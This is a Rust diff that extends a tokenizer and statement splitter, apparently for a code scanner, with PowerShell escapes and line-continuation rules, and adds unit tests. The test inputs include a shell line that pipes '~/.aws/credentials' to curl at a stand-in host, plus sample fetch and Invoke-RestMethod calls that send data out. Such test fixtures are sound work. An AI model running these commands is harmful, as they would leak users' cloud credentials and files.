@@ -179,6 +179,15 @@ pub fn tokens(text: &str, lang: Lang) -> Vec<Token> {
                     end: i,
                 });
             }
+            // PowerShell's backtick escapes the next character; at a line end it continues
+            // the line.
+            b'`' if lang == Lang::PowerShell => {
+                i += if bytes.get(i + 1).is_some_and(u8::is_ascii) {
+                    2
+                } else {
+                    1
+                };
+            }
             b'"' | b'\'' | b'`' => {
                 let prefix_interp = lang == Lang::Python
                     && out.last().is_some_and(|t: &Token| {
@@ -222,7 +231,15 @@ pub fn tokens(text: &str, lang: Lang) -> Vec<Token> {
             }
             _ if ident_byte(b) || b >= 0x80 => {
                 let mut j = i;
-                while j < n && (ident_byte(bytes[j]) || bytes[j] >= 0x80) {
+                // PowerShell names are `Verb-Noun`: `Get-Profile` is one word.
+                let hyphens = lang == Lang::PowerShell && b.is_ascii_alphabetic();
+                while j < n
+                    && (ident_byte(bytes[j])
+                        || bytes[j] >= 0x80
+                        || (hyphens
+                            && bytes[j] == b'-'
+                            && bytes.get(j + 1).is_some_and(u8::is_ascii_alphabetic)))
+                {
                     j += 1;
                 }
                 let var = !matches!(lang, Lang::Shell | Lang::PowerShell);
@@ -255,7 +272,8 @@ fn find(bytes: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
 }
 
 /// The end (exclusive) of the string literal opening at `at`. Triple quotes in Python; a
-/// backslash escapes except in shell single quotes; an unclosed string ends at the line end
+/// backslash escapes, except in shell single quotes and in PowerShell (whose double quotes
+/// escape with a backtick); an unclosed string ends at the line end
 /// (or, for triple quotes and template literals, at the end of the text).
 fn string_end(bytes: &[u8], at: usize, lang: Lang) -> usize {
     let q = bytes[at];
@@ -265,11 +283,16 @@ fn string_end(bytes: &[u8], at: usize, lang: Lang) -> usize {
         return find(bytes, at + 3, &close).map_or(n, |e| e + 3);
     }
     let multiline = q == b'`' || lang == Lang::Shell || lang == Lang::PowerShell;
-    let escapes = !(lang == Lang::Shell && q == b'\'');
+    // PowerShell escapes with a backtick, in double quotes only; its paths end in backslashes.
+    let escape = match (lang, q) {
+        (Lang::Shell | Lang::PowerShell, b'\'') => None,
+        (Lang::PowerShell, _) => Some(b'`'),
+        _ => Some(b'\\'),
+    };
     let mut j = at + 1;
     while j < n {
         let c = bytes[j];
-        if c == b'\\' && escapes {
+        if Some(c) == escape {
             j += 2;
             continue;
         }
@@ -284,9 +307,12 @@ fn string_end(bytes: &[u8], at: usize, lang: Lang) -> usize {
     n
 }
 
-/// A statement: a range of tokens, cut at line ends outside brackets (a backslash at the end of
-/// a line continues it). At most [`MAX_STATEMENT_LINES`] lines, so that an unclosed bracket
-/// cannot make one statement of a whole file.
+/// A statement: a range of tokens, cut at line ends outside brackets. A line continues on the
+/// next when it ends with a backslash (a backtick in PowerShell), with a pipe or `&&`/`||`
+/// (shell, PowerShell), or with `=`, `+`, `,`, `&&`, `||` (JavaScript), and when the next line
+/// goes on with a method chain (`.replace(…)` in JavaScript and Ruby). At most
+/// [`MAX_STATEMENT_LINES`] lines, so that an unclosed bracket cannot make one statement of a
+/// whole file.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub struct Statement {
     pub first: usize,
@@ -303,15 +329,20 @@ pub fn statements(text: &str, toks: &[Token], lang: Lang) -> Vec<Statement> {
     let mut first = 0;
     let mut lines = 0;
     let mut prev: Option<&Token> = None;
+    let mut before: Option<&Token> = None;
     for (k, tok) in toks.iter().enumerate() {
         match tok.kind {
             Kind::Punct(b'(' | b'[') => depth += 1,
             Kind::Punct(b'{') => {
                 // Braces open an expression (a dict, an object) only after `=`, `(`, `,`, `:`
                 // or `[`; elsewhere they open a block, whose lines are statements of their own.
+                // In PowerShell `@{` opens a hashtable.
                 let expression = lang == Lang::Python
                     || prev.is_some_and(|p| {
                         matches!(p.kind, Kind::Punct(b'=' | b'(' | b',' | b':' | b'['))
+                            || (lang == Lang::PowerShell
+                                && p.kind == Kind::Punct(b'@')
+                                && p.end == tok.start)
                     });
                 if expression && lang != Lang::Shell {
                     depth += 1;
@@ -321,10 +352,16 @@ pub fn statements(text: &str, toks: &[Token], lang: Lang) -> Vec<Statement> {
             Kind::Punct(b'}') if depth > 0 && lang != Lang::Shell => depth -= 1,
             Kind::Newline => {
                 lines += 1;
-                let continued = tok.start > 0 && bytes[tok.start - 1] == b'\\'
+                let escape = if lang == Lang::PowerShell {
+                    b'`'
+                } else {
+                    b'\\'
+                };
+                let continued = tok.start > 0 && bytes[tok.start - 1] == escape
                     || tok.start > 1
                         && bytes[tok.start - 1] == b'\r'
-                        && bytes[tok.start - 2] == b'\\';
+                        && bytes[tok.start - 2] == escape
+                    || continues(text, toks, k, (before, prev), lang);
                 if (depth == 0 && !continued) || lines >= MAX_STATEMENT_LINES {
                     if k > first {
                         out.push(Statement { first, last: k });
@@ -337,6 +374,7 @@ pub fn statements(text: &str, toks: &[Token], lang: Lang) -> Vec<Statement> {
             _ => {}
         }
         if !matches!(tok.kind, Kind::Newline | Kind::Comment) {
+            before = prev;
             prev = Some(tok);
         }
     }
@@ -347,6 +385,63 @@ pub fn statements(text: &str, toks: &[Token], lang: Lang) -> Vec<Statement> {
         });
     }
     out
+}
+
+/// Tokens looked at past a line end for a method chain: enough to skip a few blank lines and
+/// comments, bounded so that a file of blank lines stays linear.
+const LOOKAHEAD: usize = 16;
+
+/// Whether the statement before the newline `toks[k]` (whose last two code tokens are `before`
+/// and `prev`) goes on on the next line: it ends with an operator that needs a right-hand side,
+/// or the next line continues a method chain.
+fn continues(
+    text: &str,
+    toks: &[Token],
+    k: usize,
+    (before, prev): (Option<&Token>, Option<&Token>),
+    lang: Lang,
+) -> bool {
+    let Some(prev) = prev else {
+        return false;
+    };
+    let punct = |t: &Token| match t.kind {
+        Kind::Punct(b) => Some(b),
+        _ => None,
+    };
+    // `&&` and `||` are two tokens: `before` is the code token before `prev`.
+    let pair = |b: u8| before.is_some_and(|t| punct(t) == Some(b) && t.end == prev.start);
+    let ends_with = punct(prev);
+    match lang {
+        Lang::Shell | Lang::PowerShell => match ends_with {
+            Some(b'|') => true,
+            Some(b'&') => pair(b'&'),
+            _ => false,
+        },
+        Lang::Js | Lang::Ruby => {
+            let operator = match ends_with {
+                Some(b'=' | b',') => lang == Lang::Js && !pair(b'='),
+                // `a +` but not `i++`.
+                Some(b'+') => lang == Lang::Js && !pair(b'+'),
+                Some(b'|') => pair(b'|'),
+                Some(b'&') => pair(b'&'),
+                _ => false,
+            };
+            operator
+                || toks
+                    .iter()
+                    .skip(k + 1)
+                    .take(LOOKAHEAD)
+                    .find(|t| !matches!(t.kind, Kind::Newline | Kind::Comment))
+                    .is_some_and(|t| {
+                        punct(t) == Some(b'.')
+                            && text
+                                .as_bytes()
+                                .get(t.end)
+                                .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
+                    })
+        }
+        Lang::Python => false,
+    }
 }
 
 #[cfg(test)]
@@ -385,6 +480,43 @@ mod tests {
                 .count(),
             1
         );
+    }
+
+    fn count(text: &str, lang: Lang) -> usize {
+        statements(text, &tokens(text, lang), lang).len()
+    }
+
+    #[test]
+    fn continued_lines() {
+        // A method chain goes on on the next line; a new statement does not.
+        let chain = "const svg = fs.readFileSync('a.svg')\n  // then\n  .replace('</svg>', x);\nfetch(u, {body: svg});\n";
+        assert_eq!(count(chain, Lang::Js), 2);
+        assert_eq!(
+            count("let a = b +\n  c;\nconst d = a &&\n  e;\n", Lang::Js),
+            2
+        );
+        assert_eq!(count("i++\ny = 2\n", Lang::Js), 2);
+        assert_eq!(count("x = 1\n[a, b].forEach(f)\n", Lang::Js), 2);
+        // A pipeline or `&&` goes on; `.` at the start of a shell line is `source`.
+        assert_eq!(
+            count(
+                "cat ~/.aws/credentials |\n  curl -d @- https://x\nls\n",
+                Lang::Shell
+            ),
+            2
+        );
+        assert_eq!(count("make &&\n  make install\n", Lang::Shell), 1);
+        assert_eq!(count("sleep 1 &\nls\n", Lang::Shell), 2);
+        assert_eq!(count("x=1\n. ~/.bashrc\n", Lang::Shell), 2);
+        assert_eq!(count("x = a\n.5\n", Lang::Python), 2);
+    }
+
+    #[test]
+    fn powershell_backticks_and_paths() {
+        let text = "Invoke-RestMethod -Uri $u `\n  -Body $b\n$p = \"C:\\Users\\\"\n$q = 1\n";
+        assert_eq!(count(text, Lang::PowerShell), 3);
+        let toks = tokens("\"a`\"b\" `é x", Lang::PowerShell);
+        assert_eq!(toks.len(), 3, "{toks:?}");
     }
 
     #[test]
